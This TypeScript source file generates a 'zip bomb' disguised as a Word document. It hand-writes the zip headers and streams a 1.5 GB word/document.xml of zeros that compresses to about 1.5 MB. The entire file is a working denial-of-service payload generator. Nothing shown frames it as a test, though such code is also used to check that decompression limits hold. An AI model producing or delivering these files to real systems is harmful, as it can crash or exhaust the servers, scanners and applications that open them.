/**
 * A «zip bomb» shaped as a Word document: [Content_Types].xml and a
 * word/document.xml of 1.5 GB of zeros that packs to about 1.5 MB. Written
 * part by part, so making it never holds 1.5 GB in memory; the zip's headers
 * are written here, byte by byte, as the format lays them out.
 */
import { closeSync, openSync, writeSync } from "node:fs";
import { crc32, deflateRawSync, constants } from "node:zlib";

const CHUNK = 16 * 1024 * 1024;

function localHeader(name: Buffer, crc: number, packed: number, unpacked: number): Buffer {
  const h = Buffer.alloc(30);
  h.writeUInt32LE(0x04034b50, 0);
  h.writeUInt16LE(20, 4); // version needed
  h.writeUInt16LE(0, 6); // flags
  h.writeUInt16LE(8, 8); // deflate
  h.writeUInt32LE(crc >>> 0, 14);
  h.writeUInt32LE(packed, 18);
  h.writeUInt32LE(unpacked, 22);
  h.writeUInt16LE(name.length, 26);
  return Buffer.concat([h, name]);
}

function directoryEntry(name: Buffer, crc: number, packed: number, unpacked: number, offset: number): Buffer {
  const h = Buffer.alloc(46);
  h.writeUInt32LE(0x02014b50, 0);
  h.writeUInt16LE(20, 4);
  h.writeUInt16LE(20, 6);
  h.writeUInt16LE(8, 10);
  h.writeUInt32LE(crc >>> 0, 16);
  h.writeUInt32LE(packed, 20);
  h.writeUInt32LE(unpacked, 24);
  h.writeUInt16LE(name.length, 28);
  h.writeUInt32LE(offset, 42);
  return Buffer.concat([h, name]);
}

/** Writes the bomb to `file`: `unpacked` bytes of zeros in word/document.xml. Returns its size on disk. */
export function writeBomb(file: string, unpacked = 1_500_000_000): number {
  const zeros = Buffer.alloc(CHUNK);
  // One chunk of zeros packed once; a run of zeros packs to the same bytes each time, so the chunks
  // are packed as non-final blocks (Z_FULL_FLUSH) and joined, then an empty final block ends the stream.
  const block = deflateRawSync(zeros, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const fullChunks = Math.floor(unpacked / CHUNK);
  const rest = unpacked - fullChunks * CHUNK;
  const tail = deflateRawSync(zeros.subarray(0, rest), { level: 9 });
  let crc = 0;
  for (let i = 0; i < fullChunks; i++) crc = crc32(zeros, crc);
  crc = crc32(zeros.subarray(0, rest), crc);
  const packed = block.length * fullChunks + tail.length;

  const types = Buffer.from(
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
  );
  const typesPacked = deflateRawSync(types);
  const typesName = Buffer.from("[Content_Types].xml");
  const docName = Buffer.from("word/document.xml");
  const fd = openSync(file, "w");
  let at = 0;
  const write = (b: Buffer) => (at += writeSync(fd, b));
  const typesOffset = at;
  write(localHeader(typesName, crc32(types), typesPacked.length, types.length));
  write(typesPacked);
  const docOffset = at;
  write(localHeader(docName, crc, packed, unpacked));
  for (let i = 0; i < fullChunks; i++) write(block);
  write(tail);
  const directoryOffset = at;
  write(directoryEntry(typesName, crc32(types), typesPacked.length, types.length, typesOffset));
  write(directoryEntry(docName, crc, packed, unpacked, docOffset));
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(2, 8);
  end.writeUInt16LE(2, 10);
  end.writeUInt32LE(at - directoryOffset, 12);
  end.writeUInt32LE(directoryOffset, 16);
  write(end);
  closeSync(fd);
  return at;
}
